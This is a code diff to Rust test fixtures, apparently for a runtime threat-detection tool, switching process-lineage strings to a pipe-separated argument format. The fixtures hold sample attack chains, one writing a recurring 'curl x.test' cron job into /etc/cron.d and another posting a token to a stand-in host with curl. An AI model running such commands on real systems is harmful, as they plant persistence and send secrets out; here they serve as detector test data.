@@ -118,7 +118,7 @@ struct Raised {
     instance: &'static str,
     minutes_ago: u64,
     count: u64,
-    /// Processes from the root, each as `path argument …`.
+    /// Processes from the root, each as `path|argument|…`.
     lineage: &'static [&'static str],
     /// Facet, operation, name.
     deed: (Option<Facet>, &'static str, &'static str),
@@ -126,7 +126,11 @@ struct Raised {
 
 const API: &str = "registry.lab/shop/api";
 const CRON: (Option<Facet>, &str, &str) = (Some(Facet::File), "open", "/etc/cron.d/refresh");
-const SHELL: &[&str] = &["/usr/bin/init", "/usr/bin/gunicorn", "/usr/bin/dash -c echo \"* * * * *\""];
+const SHELL: &[&str] = &[
+    "/usr/bin/init",
+    "/usr/bin/gunicorn",
+    "/usr/bin/dash|-c|echo \"* * * * * curl x.test\" > /etc/cron.d/refresh",
+];
 
 const RAISED: &[Raised] = &[
     Raised {
@@ -156,7 +160,7 @@ const RAISED: &[Raised] = &[
             "/usr/bin/init",
             "/usr/bin/gunicorn",
             "/usr/bin/dash",
-            "/usr/bin/curl -d token=geheim https://x",
+            "/usr/bin/curl|-d|token=geheim|https://x.test",
         ],
         deed: (Some(Facet::Process), "exec", "/usr/bin/curl"),
     },
@@ -206,7 +210,7 @@ fn signals() -> Signals {
             instance: "",
             minutes_ago: 60 * hour + 7,
             count: 12,
-            lineage: &["/usr/bin/init", "/usr/bin/dash -c df -h"],
+            lineage: &["/usr/bin/init", "/usr/bin/dash|-c|df -h"],
             deed: (Some(Facet::Process), "exec", "/usr/bin/dash"),
         };
         let (mut signal, mut placement) = signal(&probe);
@@ -221,10 +225,10 @@ fn signal(raised: &Raised) -> (Signal, Placement) {
     let time = Some(UnixNanos(NOW - raised.minutes_ago * 60 * 1_000_000_000));
     let known = |text: &str| (!text.is_empty()).then(|| text.to_owned());
     let link = |line: &&str| {
-        let (path, args) = line.split_once(' ').unwrap_or((line, ""));
+        let (path, args) = line.split_once('|').unwrap_or((line, ""));
         Link {
             executable: path.to_owned(),
-            args: Some(args.split(' ').filter(|arg| !arg.is_empty()).map(str::to_owned).collect()),
+            args: Some(args.split('|').filter(|arg| !arg.is_empty()).map(str::to_owned).collect()),
             ..Link::default()
         }
     };
